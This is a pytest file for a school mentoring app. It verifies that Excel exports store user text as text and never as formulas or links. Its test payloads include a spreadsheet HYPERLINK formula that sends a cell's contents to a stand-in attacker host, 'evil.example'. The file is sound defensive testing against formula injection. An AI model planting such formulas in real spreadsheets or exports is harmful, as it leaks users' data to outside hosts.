"""Every .xlsx the app writes keeps user text as text: no formula, no link, whatever the text starts with.

The exports are found in the URL map (every route with «.xlsx» in it), so an export added later is
fed the same hostile text — or fails here, asking for a value of its URL arguments.
"""

from __future__ import annotations

import copy
import io
from datetime import date

import openpyxl
import pytest
from sqlalchemy import select

from nastavnik.extensions import db
from nastavnik.web import xlsx
from tests.factories import make_consent, make_person

PAYLOADS = ("=1+2", "+7 913 000-00-00", "-3+4", "@SUM(A1)", '=HYPERLINK("http://evil.example/"&B6,"x")')
# What would show that a payload became a formula; the app's own formulas (report totals) carry none.
MARKS = ("1+2", "913", "3+4", "SUM(A1)", "evil")


@pytest.fixture
def hostile(app, world):
    """A school whose people, banks and roadmap carry text starting with =, +, - and @."""
    from nastavnik.banks.models import MenteeProfile, MentorProfile, Tag
    from nastavnik.periods import AcademicYear
    from nastavnik.roadmaps.services import create_roadmap, templates

    world.school.short_name = PAYLOADS[0]
    year = AcademicYear.of(date.today()).start_year
    mentee = make_person(world.school, last_name=PAYLOADS[0], first_name=PAYLOADS[3], middle_name=PAYLOADS[2],
                         phone=PAYLOADS[1], email=PAYLOADS[4], position=PAYLOADS[2], subjects=PAYLOADS[4])
    mentor = make_person(world.school, last_name=PAYLOADS[4], first_name=PAYLOADS[1], phone=PAYLOADS[3])
    for person in (mentee, mentor):
        make_consent(person)
    tag = Tag(title=PAYLOADS[2])
    db.session.add_all([
        MenteeProfile(person=mentee, org_id=world.school.id, kind_code="teacher_teacher", academic_year=year,
                      request_text=PAYLOADS[4], tags=[tag]),
        MentorProfile(person=mentor, org_id=world.school.id, kind_codes="teacher_teacher", achievements=PAYLOADS[0],
                      interests=PAYLOADS[3], time_place=PAYLOADS[1], case_url=PAYLOADS[4], tags=[tag]),
    ])
    draft = copy.deepcopy(templates()["generic_teacher"])
    draft.title, draft.approval_text = PAYLOADS[4], PAYLOADS[1]
    draft.sections[0].title = PAYLOADS[3]
    draft.sections[0].items[0].name = PAYLOADS[0]
    draft.sections[0].items[0].responsible = PAYLOADS[2]
    roadmap = create_roadmap(draft, world.school, year)
    db.session.commit()
    return {"roadmap_id": roadmap.id, "mentor": mentor, "mentee": mentee}


def _agreement(world, mentor, mentee) -> None:
    """A running ст. 351.8 agreement between two teachers, for the pay register."""
    from nastavnik.agreements.models import MentorAgreement
    from nastavnik.pairs.models import Pair, PairMember

    day = date.today()
    pair = Pair(org_id=world.school.id, kind_code="teacher_teacher", academic_year=2025, status="active")
    pair.members = [PairMember(person_id=mentor.id, role="mentor"), PairMember(person_id=mentee.id, role="mentee")]
    db.session.add(pair)
    db.session.flush()
    db.session.add(MentorAgreement(
        org_id=world.school.id, pair_id=pair.id, person_id=mentor.id, number=PAYLOADS[3], signed_on=day,
        content=PAYLOADS[0], work_form=PAYLOADS[2], starts_on=day.replace(day=1), ends_on=day.replace(day=28),
        pay_kind="fixed", pay_value=1000, pay_terms=PAYLOADS[4], local_act=PAYLOADS[1],
    ))
    db.session.commit()


def _campaign(world) -> int:
    """A monitoring campaign whose title and open answer carry hostile text."""
    from nastavnik.monitoring import services
    from nastavnik.monitoring.models import Recipient
    from tests.monitoring.conftest import make_campaign, make_questionnaire

    questionnaire = make_questionnaire(world.school, [{"kind": "text", "text": PAYLOADS[3]}], anonymous=False)
    campaign = make_campaign(questionnaire, world.school, title=PAYLOADS[0], pair_statuses=[])
    recipient = db.session.scalars(select(Recipient).where(Recipient.campaign_id == campaign.id)).first()
    if recipient is not None:
        item = questionnaire.latest.items[0]
        services.submit(campaign, recipient, {item.id: [(None, PAYLOADS[4])]}, channel="app", day=date.today())
    db.session.commit()
    return campaign.id


def _exports(app) -> list:
    return sorted((rule for rule in app.url_map.iter_rules() if ".xlsx" in rule.rule), key=lambda r: r.rule)


def test_every_export_writes_user_text_as_text(app, hostile, world, as_user):
    from tests.reports.test_reports import run_report

    client = as_user("curator")
    _agreement(world, hostile["mentor"], hostile["mentee"])
    hostile = {**hostile, "run_id": run_report(client, world.school, as_of=f"{date.today():%d.%m.%Y}").id,
               "campaign_id": _campaign(world)}
    exports = _exports(app)
    assert {r.endpoint for r in exports} >= {
        "participants.export", "banks.export_mentees", "banks.export_mentors", "roadmaps.export_xlsx"
    }
    for rule in exports:
        missing = set(rule.arguments) - set(hostile)
        assert not missing, f"{rule.rule}: give this test a value for {missing} (and hostile text for the export)"
        url = rule.rule
        for name in rule.arguments:
            url = url.replace(f"<int:{name}>", str(hostile[name])).replace(f"<{name}>", str(hostile[name]))
        response = client.get(url)
        if rule.endpoint == "reports.run_blank" and response.status_code == 404:
            continue  # only a format that ships an official blank has one (tests/reports/test_regional_plugin.py)
        assert response.status_code == 200, url
        book = openpyxl.load_workbook(io.BytesIO(response.data))
        texts = set()
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    formula = cell.data_type == "f" and any(mark in str(cell.value) for mark in MARKS)
                    assert not formula, f"{url}: {cell.coordinate} is a formula: {cell.value!r}"
                    assert cell.hyperlink is None or "evil" not in (cell.hyperlink.target or ""), url
                    if isinstance(cell.value, str):
                        texts.add(cell.value)
        # a hostile text at the start of a cell, where a spreadsheet would take it for a formula
        assert any(text.startswith(PAYLOADS) for text in texts), (
            f"{url}: no cell starts with a hostile text, so this test proved nothing"
        )


def test_the_helper_writes_numbers_dates_booleans_links_and_text_each_as_itself():
    def write(book):
        sheet = book.sheet("Проверка")
        sheet.merged(PAYLOADS[4], last_col=3, fmt=book.formats["title"])
        sheet.row([*PAYLOADS, 42, 2.5, date(2025, 9, 1), True, None, xlsx.Link("https://school.example/case", "кейс"),
                   xlsx.Link(PAYLOADS[4])])

    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.to_bytes(write))).active
    assert sheet["A1"].value == PAYLOADS[4] and sheet["A1"].data_type == "s"
    row = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    assert [c.value for c in row[:5]] == list(PAYLOADS) and {c.data_type for c in row[:5]} == {"s"}
    assert row[5].value == 42 and row[6].value == 2.5 and row[5].data_type == "n"
    assert row[7].is_date and row[7].number_format == "dd.mm.yyyy"
    assert row[8].value is True and row[9].value is None
    assert row[10].hyperlink.target == "https://school.example/case" and row[10].value == "кейс"
    assert row[11].hyperlink is None and row[11].value == PAYLOADS[4]  # not a link: not http(s)


def test_rows_with_heights_keep_their_heights_but_not_in_memory():
    """A streamed sheet keeps no per-row state once a row is written (flat memory at any size), and
    the heights still reach the file."""
    book = xlsx.Book()
    sheet = book.sheet("Строки")
    for n in range(1000):
        sheet.row([f"строка {n}", n], height=(30, 45, 60)[n % 3])
    assert len(sheet.ws.row_info) <= 1 and len(sheet.ws.row_sizes) <= 1
    rows = openpyxl.load_workbook(io.BytesIO(book.bytes())).active.row_dimensions
    assert [rows[n].height for n in (1, 2, 3, 1000)] == [30, 45, 60, 30]
